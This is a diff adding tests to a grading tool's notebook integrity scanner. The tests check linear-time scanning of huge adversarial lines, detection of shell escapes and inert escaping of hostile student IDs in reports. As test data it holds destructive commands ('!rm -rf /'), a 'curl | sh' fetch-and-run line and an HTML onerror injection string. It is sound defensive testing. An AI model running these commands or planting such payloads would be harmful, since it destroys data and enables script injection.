@@ -5,6 +5,8 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
+import time
 from pathlib import Path
 
 import nbformat
@@ -12,7 +14,7 @@ import pytest
 
 from grader.course.bank import load_bank
 from grader.course.contract import ASSIGNMENT, NOTEBOOK
-from grader.grading.integrity import KINDS, Flag, report, scan, to_csv
+from grader.grading.integrity import KINDS, MAGIC, MAX_DETAIL, MAX_SHOWN, Flag, report, scan, to_csv
 from grader.publish.notebooks import grade_id
 from grader.publish.sample_class import solutions, students, submission
 
@@ -233,6 +235,54 @@ def test_cell_magics_that_are_not_python_are_not_parsed():
     assert flags_of_last_cell("%%html\n<b>not python (</b>") == []
 
 
+# -- adversarial lines: the scan stays linear ------------------------------------------------
+
+MB = 1_000_000
+ADVERSARIAL_LINES = {
+    "spaces": " " * MB,  # the old magic pattern: 82 s for 280,000 spaces, hours for a million
+    "spaces then %": " " * MB + "%",
+    "spaces then a name then %": " " * MB + "x%",
+    "target then spaces": "x =" + " " * MB + "y %",
+    "indented target then spaces": " " * MB + "x = " + " " * MB + "y!",
+    "name without =": "a" * MB + "%",
+    "names and spaces": "a " * (MB // 2) + "!",
+    "commas": ", " * (MB // 2) + "%",
+    "tabs": "\t" * MB + "=%",
+    "help with spaces": " " * MB + "a" * MB + "?" + " " * MB + "b",
+    "question marks": "?" * MB + " x",
+    "percent signs": "%" * MB,
+}
+
+
+@pytest.mark.parametrize("line", ADVERSARIAL_LINES.values(), ids=ADVERSARIAL_LINES.keys())
+def test_a_megabyte_line_is_scanned_in_linear_time(line):
+    # A magic first makes the cell fail ast.parse, so it is read line by line as IPython syntax.
+    nb = {"cells": [{"cell_type": "code", "metadata": {}, "source": f"%matplotlib inline\n{line}\nx = 1\n"}]}
+    start = time.perf_counter()
+    scan(nb)
+    assert time.perf_counter() - start < 2  # linear: well under a second here; quadratic: hours
+
+
+def test_the_magic_pattern_still_reads_assignments_and_escapes():
+    # Matched after the indentation (see integrity.MAGIC): (prefix, name) of each magic.
+    for line, expected in [("x = %time f()", ("%", "time")), ("files = !ls", ("!", "ls")),
+                           ("a, b[0] = %sx ls", ("%", "sx")), ("%%bash", ("%%", "bash")), ("!rm -rf /", ("!", "rm"))]:
+        found = MAGIC.match(line)
+        assert found and found.group(1, 2) == expected, line
+    assert MAGIC.match("x = y") is None and MAGIC.match("= %foo") is None
+
+
+def test_magics_behind_long_indentation_are_still_found():
+    nb = with_cell("if True:\n" + " " * 100_000 + "!rm -rf /tmp/x\n")
+    found = scan(nb)
+    assert any(f.kind == "process" and f.line == 2 for f in found)
+
+
+def test_flag_details_are_short():
+    found = scan(with_cell("get_ipython()." + "a" * 100_000 + "(1)"))
+    assert found and all(len(f.detail) <= MAX_DETAIL for f in found)
+
+
 # -- reports ----------------------------------------------------------------------------------
 
 FLAGS = {
@@ -257,6 +307,24 @@ def test_report_of_a_clean_class_and_of_nothing():
     assert report({"bob": []}).rstrip().endswith("No flags: bob.")
     assert "| student |" not in report({"bob": []})
     assert report({}).rstrip().endswith("No submissions scanned.")
+
+
+HOSTILE_ID = "<img src=x onerror=alert(1)>|`rm -rf`|\n# [click](http://evil) *b* _i_ $x$ &amp; \x1b[31mred\x00\u202e"
+
+
+def test_report_shows_ids_and_lines_inert():
+    text = report({HOSTILE_ID: [Flag(3, "q|`x`<b>", 1, "process",
+                                     "IPython shell escape: !curl <http://x> | sh\n\x1b[2J" + "z" * 10_000)],
+                   "<b>clean</b>": []})
+    rows = [line for line in text.splitlines() if line.startswith("| &lt;img")]
+    assert len(rows) == 2  # one per table: the newline in the id did not break its row
+    for row in rows:
+        bare = re.sub(r"\\.", "", row)  # what is left once every backslash escape is taken out
+        assert not set(bare) & set("`*_[]~$<>\x1b\x00\u202e"), bare
+        assert bare.count("|") == row.count(" | ") + 2  # the table's own pipes only
+        assert len(row) < 8 * MAX_SHOWN
+    assert "&lt;img src=x onerror=alert(1)&gt;" in text and "&amp;amp;" in text and "\\x1b" in text
+    assert text.rstrip().endswith("No flags: &lt;b&gt;clean&lt;/b&gt;.")
 
 
 def test_csv_round_trip(tmp_path):
